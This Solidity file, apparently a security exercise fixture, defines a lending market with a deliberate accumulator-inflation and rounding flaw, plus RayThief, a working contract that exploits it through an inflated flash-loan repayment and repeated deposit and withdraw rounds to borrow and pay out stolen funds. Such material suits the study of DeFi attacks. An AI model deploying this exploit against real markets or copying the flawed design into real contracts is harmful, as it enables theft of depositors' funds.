// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {IBorrower, Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// A market of several assets. What is deposited is kept in raw units, each worth as much as the accumulator says, and
/// every division rounds down, whoever gains by it. Behind a proxy.
contract RayMarket {
    struct Reserve {
        uint256 price; // dollars of 18 places for 10^18 base units
        uint256 accumulator;
        uint256 rawSupply;
        uint256 debt;
    }

    address public owner;
    Token[] public assets;
    mapping(Token => Reserve) public reserves;
    mapping(Token => mapping(address => uint256)) public raw;
    mapping(Token => mapping(address => uint256)) public debtOf;
    address[] private borrowers;

    event NewReserve(address token, uint256 price);
    event Deposit(address user, address token, uint256 faceAmount);
    event Withdrawal(address user, address token, uint256 faceAmount);
    event Borrowing(address user, address token, uint256 faceAmount);
    event Repayment(address user, address token, uint256 faceAmount);
    event FlashLoan(address initiator, address receiver, address token, uint256 amount, uint256 fee);
    event AccumulatorsSync(address token, uint256 lendingAccumulator);

    function initialize(address owner_) external {
        require(owner == address(0), "initialized");
        owner = owner_;
    }

    function addReserve(Token token, uint256 price) external {
        require(msg.sender == owner, "not the owner");
        assets.push(token);
        (reserves[token].price, reserves[token].accumulator) = (price, 1e18);
        emit NewReserve(address(token), price);
    }

    function deposit(Token token, uint256 amount) external {
        Reserve storage reserve = reserves[token];
        token.transferFrom(msg.sender, address(this), amount);
        uint256 units = amount * 1e18 / reserve.accumulator;
        raw[token][msg.sender] += units;
        reserve.rawSupply += units;
        emit Deposit(msg.sender, address(token), amount);
    }

    function withdraw(Token token, uint256 amount) external {
        Reserve storage reserve = reserves[token];
        uint256 units = amount * 1e18 / reserve.accumulator;
        raw[token][msg.sender] -= units;
        reserve.rawSupply -= units;
        require(healthy(msg.sender), "not enough collateral");
        token.transfer(msg.sender, amount);
        emit Withdrawal(msg.sender, address(token), amount);
    }

    function borrow(Token token, uint256 amount) external {
        debtOf[token][msg.sender] += amount;
        reserves[token].debt += amount;
        borrowers.push(msg.sender);
        require(healthy(msg.sender), "not enough collateral");
        token.transfer(msg.sender, amount);
        emit Borrowing(msg.sender, address(token), amount);
    }

    function repay(Token token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        debtOf[token][msg.sender] -= amount;
        reserves[token].debt -= amount;
        emit Repayment(msg.sender, address(token), amount);
    }

    /// Whatever comes back beyond the loan is shared out among the depositors.
    function flashLoan(IBorrower receiver, Token token, uint256 amount, bytes calldata data) external {
        uint256 before = token.balanceOf(address(this));
        token.transfer(address(receiver), amount);
        receiver.onFlashLoan(msg.sender, address(token), amount, amount * 9 / 10_000, data);
        uint256 afterwards = token.balanceOf(address(this));
        require(afterwards >= before + amount * 9 / 10_000, "insufficient amount repaid");
        Reserve storage reserve = reserves[token];
        if (reserve.rawSupply > 0) reserve.accumulator += (afterwards - before) * 1e18 / reserve.rawSupply;
        emit AccumulatorsSync(address(token), reserve.accumulator);
        emit FlashLoan(msg.sender, address(receiver), address(token), amount, afterwards - before);
    }

    function healthy(address account) public view returns (bool) {
        (uint256 has, uint256 owes) = (0, 0);
        for (uint256 i = 0; i < assets.length; i++) {
            Reserve storage reserve = reserves[assets[i]];
            has += raw[assets[i]][account] * reserve.accumulator / 1e18 * reserve.price / 1e18 * 75 / 100;
            owes += debtOf[assets[i]][account] * reserve.price / 1e18;
        }
        return has >= owes;
    }

    /// What depositors of an asset are owed beyond what is here and lent out, and beyond rounding.
    function missing(Token token) external view returns (uint256) {
        Reserve storage reserve = reserves[token];
        uint256 owed = reserve.rawSupply * reserve.accumulator / 1e18;
        uint256 held = token.balanceOf(address(this)) + reserve.debt;
        return owed > held + 1e12 ? owed - held : 0;
    }
}

/// Makes a raw unit worth whole tokens, and then withdraws nearly two for each one that is burnt.
contract RayThief is IBorrower {
    struct Job {
        RayMarket market;
        Token asset;
        Token target;
        Pool pool;
        uint256 unit;
        uint256 rounds;
        uint256 loan;
        address payee;
    }

    uint256 private extra;

    function run(Job calldata job) external payable {
        Shop.buy(job.pool, msg.value);
        job.asset.approve(address(job.market), type(uint256).max);
        if (job.market.raw(job.asset, address(this)) == 0) {
            job.market.deposit(job.asset, 1);
            extra = job.unit;
            job.market.flashLoan(this, job.asset, 1, "");
        }
        (, uint256 accumulator,,) = job.market.reserves(job.asset);
        uint256 unit = accumulator / 1e18;
        for (uint256 i = 0; i < job.rounds; i++) {
            job.market.deposit(job.asset, 2 * unit);
            job.market.withdraw(job.asset, 2 * unit - 1);
        }
        job.market.borrow(job.target, job.loan);
        job.target.transfer(job.payee, job.loan);
        job.asset.transfer(job.payee, job.asset.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata) external returns (bytes32) {
        Token(token).transfer(msg.sender, amount + extra);
        return "";
    }
}

/// Saves for many small people at once: each one's money goes in, and what they want back comes out, one by one.
contract RayBatcher is IBorrower {
    address private immutable owner = msg.sender;
    RayMarket private immutable market;
    Token private immutable token;

    constructor(RayMarket market_, Token token_) {
        (market, token) = (market_, token_);
        token_.approve(address(market_), type(uint256).max);
    }

    function batch(uint256[] calldata into, uint256[] calldata out) external {
        require(msg.sender == owner, "not the owner");
        for (uint256 i = 0; i < into.length; i++) market.deposit(token, into[i]);
        for (uint256 i = 0; i < out.length; i++) market.withdraw(token, out[i]);
    }

    /// Pays a bonus to all depositors by way of a flash loan that is repaid with too much.
    function bonus(uint256 loan) external {
        require(msg.sender == owner, "not the owner");
        market.flashLoan(this, token, loan, "");
    }

    function draw(Token what, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        market.borrow(what, amount);
        what.transfer(owner, amount);
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        token.transfer(msg.sender, amount + fee * 10);
        return "";
    }
}
